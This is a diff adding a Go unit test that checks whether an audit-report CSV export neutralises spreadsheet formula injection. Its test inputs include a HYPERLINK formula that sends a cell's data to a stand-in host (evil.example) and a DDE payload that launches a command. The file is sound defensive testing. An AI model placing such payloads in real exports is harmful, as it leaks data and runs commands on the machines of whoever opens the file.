@@ -1,0 +1,50 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"testing"
+	"time"
+
+	"github.com/gatehouse-dev/gatehouse/audit"
+)
+
+func TestCSVDefusesFormulas(t *testing.T) {
+	t0 := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
+	for _, evil := range []string{
+		`=HYPERLINK("https://evil.example/?d="&B2,"open")`,
+		`+1+cmd|' /C calc'!A0`,
+		`-2+3`,
+		`@SUM(1+1)`,
+		"\t=1",
+		"\r=1",
+	} {
+		t.Run(evil, func(t *testing.T) {
+			recs := []*audit.Record{{Version: 1, Index: 0, Time: t0, Type: audit.TypeDecision, Subject: evil,
+				Route: "files", Path: evil, Outcome: audit.OutcomeDeny, Reasons: []string{evil}}}
+			rep := Build(recs, Integrity{Verified: true}, Options{From: t0.Add(-time.Hour), To: t0.Add(time.Hour), User: evil, Generated: t0})
+			var b bytes.Buffer
+			if err := Render(&b, rep, "csv"); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&b).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			quoted := 0
+			for _, r := range rows {
+				for _, c := range r {
+					if c != "" && bytes.ContainsAny([]byte{c[0]}, "=+-@\t\r") {
+						t.Fatalf("cell %q starts a formula (row %q)", c, r)
+					}
+					if c == "'"+evil {
+						quoted++
+					}
+				}
+			}
+			if quoted == 0 {
+				t.Fatalf("the value is not in the report as '%s", evil)
+			}
+		})
+	}
+}
